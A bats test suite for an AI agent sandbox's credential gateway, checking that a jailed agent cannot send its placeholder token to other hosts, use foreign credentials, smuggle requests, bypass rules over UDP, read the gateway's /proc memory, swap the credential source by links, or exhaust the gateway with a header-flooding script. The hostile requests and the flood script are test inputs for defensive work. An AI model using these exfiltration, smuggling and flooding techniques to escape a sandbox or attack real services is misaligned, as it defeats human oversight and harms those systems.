#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# What an agent could try with a credential that it does not have: send its placeholder elsewhere, use another account, smuggle requests,
# reach the gateway from outside, replace the source, flood. The control of each refusal is a similar request that arrives.

load helper
load brokered

setup() { start_credential_test; }
teardown() { end_egress_test; }

@test "a placeholder in thirty spellings reaches no other host: header, authorization, query and user part" {
    define_tracker '' '[requests]' 'block = ["DELETE also.example/**"]'
    works brokered_sh 'python3 spellings.py "$TRACKER_TOKEN" also.example'
    [[ $(grep -c " 403 placeholder_elsewhere$" <<<"$output") -ge 90 ]] || report "should be refused in 90 places"
    # The user part of a URL is refused as such.
    [[ $(grep -c "^user .* 40[03] " <<<"$output") == 30 ]] || report "should be refused in each user part"
    [[ $(grep -c "^[a-z]* [0-9]* 40[03] " <<<"$output") == 120 ]] || report "should all be refused"
    unseen values also.example
    # Control: another text in the same spellings arrives.
    works brokered python3 spellings.py tok_0123456789abcdefghijABCDEFGHIJ0123456789 also.example
    [[ $(grep -c " 401 -$" <<<"$output") -ge 85 ]] || report "should arrive"
    [[ $output != *placeholder_elsewhere* ]] || report "should not be taken for a placeholder"
    seen values also.example
}

@test "a redirect to another host gets no value and no placeholder, also with --location-trusted" {
    define_tracker '' '[requests]' 'block = ["DELETE also.example/**"]'
    # curl itself removes Authorization, but not with the option, and not a field of its own.
    says "no value" brokered_sh 'curl -sS -L --max-time 100 -H "Authorization: Bearer $TRACKER_TOKEN" https://good.example/away'
    says "x-agent-sandbox: placeholder_elsewhere" brokered_sh \
        'curl -sSi -L --location-trusted --max-time 100 -H "Authorization: Bearer $TRACKER_TOKEN" https://good.example/away'
    says "x-agent-sandbox: placeholder_elsewhere" brokered_sh \
        'curl -sSi -L --location-trusted --max-time 100 -u "x:$TRACKER_TOKEN" https://also.example/private'
    unseen values "tok_"
    # A host that is not read gets the placeholder, which has no value for it.
    define_tracker
    says "no value" brokered_sh 'curl -sS -L --location-trusted --max-time 100 -H "Authorization: Bearer $TRACKER_TOKEN" https://good.example/away'
    seen values "also.example|GET /private"
    unseen values "$VALUE"
    # Control: outside, with the real value, the redirect carries it away.
    says welcome outside curl -sS -L --location-trusted -H "Authorization: Bearer $VALUE" https://good.example/away
    seen values "$VALUE"
}

@test "another account, another owner's path and another method get no value" {
    define_tracker 'paths = ["good.example/private/me/**"]' 'methods = ["GET"]'
    says welcome brokered_sh 'curl -sS --max-time 100 -H "Authorization: Bearer $TRACKER_TOKEN" https://good.example/private/me/app'
    log_mark
    local target
    for target in "https://good.example/private/you/app" "-X POST https://good.example/private/me/gists" "-X PUT https://good.example/private/me/keys" \
        "https://good.example/private" "https://good.example/private/files" "https://git.example/private/me/app"; do
        says "x-agent-sandbox: outside_the_binding" brokered_sh "curl -sSi --max-time 100 -H \"Authorization: Bearer \$TRACKER_TOKEN\" $target"
    done
    for target in "-H 'Authorization: Bearer tok_of_the_attacker'" "-H 'Authorization: Basic eDp0b2tfb2ZfdGhlX2F0dGFja2Vy'" "-u me:tok_of_the_attacker" \
        "-H 'authorization: token tok_of_the_attacker'"; do
        says "x-agent-sandbox: foreign_credential" brokered_sh "curl -sSi --max-time 100 $target https://good.example/private/me/app"
    done
    unseen values good.example
    unseen values git.example
    # Control: outside, all of them arrive.
    says "no value" outside curl -sS -X POST -H "Authorization: Bearer tok_of_the_attacker" https://good.example/private/me/gists
    seen values tok_of_the_attacker
}

@test "UDP to a host whose requests are read is closed, so that HTTP/3 does not carry them past the rules" {
    define_tracker '' '[network]' 'udp = ["echo.example:443"]' '[requests]' 'block = ["DELETE also.example/**"]'
    everywhere "echo of hello" python3 sockets.py udp echo.example 443
    define_tracker '' '[network]' 'udp = ["echo.example:443"]' '[requests]' 'block = ["DELETE echo.example/**"]'
    only_outside "echo of hello" python3 sockets.py udp echo.example 443
    define_tracker '' '[network]' 'udp = ["echo.example:443"]' '[requests]' 'block = ["DELETE echo.example/**"]' 'opaque = ["echo.example"]'
    everywhere "echo of hello" python3 sockets.py udp echo.example 443
}

@test "with when = always the value is added within the binding alone" {
    define_tracker 'when = "always"' 'paths = ["good.example/private/me/**"]' 'methods = ["GET"]'
    says welcome brokered curl -sS --max-time 100 https://good.example/private/me/app
    says "no value" brokered curl -sS --max-time 100 https://good.example/private/you/app
    says "no value" brokered curl -sS --max-time 100 -X POST https://good.example/private/me/app
    [[ $(since_mark values | grep -c "$VALUE") == 1 ]]
}

@test "requests that two readers could understand differently carry no second request" {
    define_tracker 'when = "always"' '' '[requests]' 'allow = ["* good.example/private"]'
    works brokered python3 smuggle.py good.example /private/smuggled
    # The gateway itself refuses them, whatever the server would do.
    ! grep -v ": HTTP/1.1 \(4[0-9][0-9]\|501\) .* by the gateway$" <<<"$output" || report "should be refused by the gateway"
    unseen values smuggled
    unseen web smuggled
    # Control: as a request of its own it arrives, and the rule refuses it.
    says "x-agent-sandbox: request_refused" brokered curl -sSi --max-time 100 https://good.example/private/smuggled
    define_tracker 'when = "always"'
    works brokered python3 smuggle.py good.example /private/smuggled plain
    seen values "GET /private/smuggled"
}

@test "no process outside and no other jail reaches the gateway or is led by its authority" {
    define_tracker 'when = "always"'
    ss -Hltun >"$BATS_TEST_TMPDIR/before"
    start_brokered_jail
    tell_jail 'curl -sS --max-time 100 https://good.example/private; cp /run/agent-sandbox/trust/root.pem .'
    [[ $output == *welcome* ]] || report "should work"
    ss -Hltun >"$BATS_TEST_TMPDIR/after"
    works diff "$BATS_TEST_TMPDIR/before" "$BATS_TEST_TMPDIR/after"
    local process
    for process in "$GATEWAY" "$SUPERVISOR"; do
        run as_neighbour cat "/proc/$process/mem" "/proc/$process/environ" "/proc/$process/maps"
        ((status != 0)) || report "should be refused to another user"
    done
    # The session's own name and its root exist in this jail alone.
    run outside curl -sS --max-time 30 http://tracker.credential.agent-sandbox.internal/private
    ((status != 0)) || report "should be unknown outside"
    run as_user "$SBX_PROGRAM" --quiet --network proxied --allow-host good.example -- curl -sS --max-time 30 http://tracker.credential.agent-sandbox.internal/private
    ((status != 0)) || report "should be unknown in another jail"
    local body
    body=$(sed -n 2p root.pem)
    works brokered_sh 'grep -c "$1" /run/agent-sandbox/trust/ca-certificates.crt || true' "$body"
    [[ $output == 0 ]] || report "should not be trusted in another jail"
    ! grep -rqs "$body" /etc/ssl /usr/share/ca-certificates || report "should not be trusted outside"
    tell_jail "grep -c '$body' /run/agent-sandbox/trust/ca-certificates.crt"
    [[ $output == 1 ]] || report "should be trusted in its own jail"
}

@test "a source that the jail can write is refused, also if it becomes so while the session runs" {
    define_tracker 'when = "always"'
    # In the project, from the start.
    as_user cp "$SBX_HOME/keys/tracker" "$PROJECT/source"
    user_says '[credential.tracker]' 'hosts = ["good.example"]' 'put = "bearer"' 'when = "always"' 'variable = "TRACKER_TOKEN"' 'shape = "tok_{40}"' \
        "from_file = \"$PROJECT/source\""
    run brokered curl -sSi --max-time 100 https://good.example/private
    [[ $output == *"can write"* || $output == *"the jail"* ]] || report "should say why"
    unseen values "$VALUE"
    # A program in the project, by the path that finds it.
    as_user install -m 0755 /bin/cat "$PROJECT/tool"
    user_says '[credential.tracker]' 'hosts = ["good.example"]' 'put = "bearer"' 'when = "always"' 'variable = "TRACKER_TOKEN"' 'shape = "tok_{40}"' \
        "from_command = [\"$PROJECT/tool\", \"$SBX_HOME/keys/tracker\"]"
    run brokered curl -sSi --max-time 100 https://good.example/private
    unseen values "$VALUE"
    # Later: the agent's file takes the place of the source, by a link of each kind.
    local kind
    for kind in -s ""; do
        define_tracker 'when = "always"'
        printf '%s\n' "$VALUE" >"$SBX_HOME/keys/tracker"
        start_brokered_jail
        tell_jail "printf 'tok_from_the_agent\n' >mine"
        # shellcheck disable=SC2086
        as_user ln -f $kind "$PROJECT/mine" "$SBX_HOME/keys/tracker"
        tell_jail 'curl -sSi --max-time 100 https://good.example/private'
        [[ $output == *"x-agent-sandbox: credential_unavailable"* ]] || report "should be refused at its use"
        unseen values tok_from_the_agent
        kill "$SUPERVISOR" && wait "$SUPERVISOR" || true
        as_user rm "$SBX_HOME/keys/tracker"
    done
    # Control: the same program and file outside of the project.
    define_tracker 'when = "always"'
    printf '%s\n' "$VALUE" >"$SBX_HOME/keys/tracker"
    says welcome brokered curl -sS --max-time 100 https://good.example/private
}

# Not a threat, but a reason to turn the protection off.
@test "a JDK that brings roots of its own trusts the session's root, and the system's JDK gets no option" {
    define_tracker 'when = "always"'
    cat >Get.java <<'END'
public class Get {
    public static void main(String[] words) throws Exception {
        System.out.print(new String(new java.net.URL(words[0]).openStream().readAllBytes()));
    }
}
END
    works java -m jdk.compiler/com.sun.tools.javac.Main --release 17 -nowarn -d "$PROJECT" Get.java
    works as_user jlink --add-modules java.base,jdk.crypto.ec --output "$SBX_HOME/jdk"
    [[ -f $SBX_HOME/jdk/lib/security/cacerts ]] || report "should have roots of its own"
    with_jdk() { as_user JAVA_HOME="$SBX_HOME/jdk" SSL_CERT_FILE="$SBX_STAGE/authority.crt" "$SBX_PROGRAM" --quiet "${JAIL[@]}" --ro "$SBX_HOME/jdk" -- bash -c "$1"; }
    says welcome with_jdk '"$JAVA_HOME/bin/java" -cp . Get https://good.example/private'
    seen values "|Bearer $VALUE|"
    # Control: without the variable it does not trust the root.
    run with_jdk 'env -u JAVA_TOOL_OPTIONS "$JAVA_HOME/bin/java" -cp . Get https://good.example/private'
    ((status != 0)) && [[ $output == *PKIX* ]] || report "should not be trusted"
    says "[]" brokered_sh 'echo "[$JAVA_TOOL_OPTIONS]"'
}

@test "huge heads, half requests and slow bodies leave the gateway usable and small" {
    define_tracker 'when = "always"' '' '[requests]' 'git = ["push git.example/** refs/heads/agent/*", "fetch git.example/**"]'
    start_brokered_jail
    local before after
    tell_jail 'curl -sS --max-time 100 https://good.example/private'
    [[ $output == *welcome* ]] || report "should work"
    before=$(memory_of "$GATEWAY")
    cat >flood.py <<'END'
import socket, ssl
context = ssl.create_default_context()
def opened(host):
    return context.wrap_socket(socket.create_connection((host, 443), timeout=100), server_hostname=host)
def status(secure):
    answer = b""
    try:
        while b"\r\n" not in answer and (piece := secure.recv(65536)):
            answer += piece
    except OSError:
        pass
    return answer.split(b"\r\n")[0]
head = b"GET /private HTTP/1.1\r\nHost: good.example\r\n"
large = opened("good.example")
large.sendall(head + b"X-Large: " + b"a" * 20000 + b"\r\n\r\n")
print("large", status(large))
many = opened("good.example")
many.sendall(head + b"".join(b"X-%d: a\r\n" % number for number in range(200)) + b"\r\n")
print("many", status(many))
# Half a head each, and a push whose commands never end.
halves = [opened("good.example") for _ in range(150)]
for half in halves:
    half.sendall(head + b"X-Half: " + b"a" * 15000)
slow = [opened("git.example") for _ in range(50)]
for push in slow:
    push.sendall(b"POST /private-git/one.git/git-receive-pack HTTP/1.1\r\nHost: git.example\r\nContent-Type: application/x-git-receive-pack-request\r\n"
                 b"Content-Length: 60000\r\n\r\n" + b"0" * 30000)
again = opened("good.example")
again.sendall(head + b"Connection: close\r\n\r\n")
print("again", status(again))
END
    tell_jail 'python3 flood.py'
    [[ $output == *"large b'HTTP/1.1 431"* && $output == *"many b'HTTP/1.1 431"* ]] || report "should be refused"
    [[ $output == *"again b'HTTP/1.1 200"* ]] || report "should still work"
    after=$(memory_of "$GATEWAY")
    # 200 connections of at most 256 KiB.
    ((after - before < 60000)) || { echo "the gateway has grown from $before to $after KiB" >&2; return 1; }
    tell_jail 'curl -sS --max-time 100 https://good.example/private'
    [[ $output == *welcome* ]] || report "should work afterwards"
}
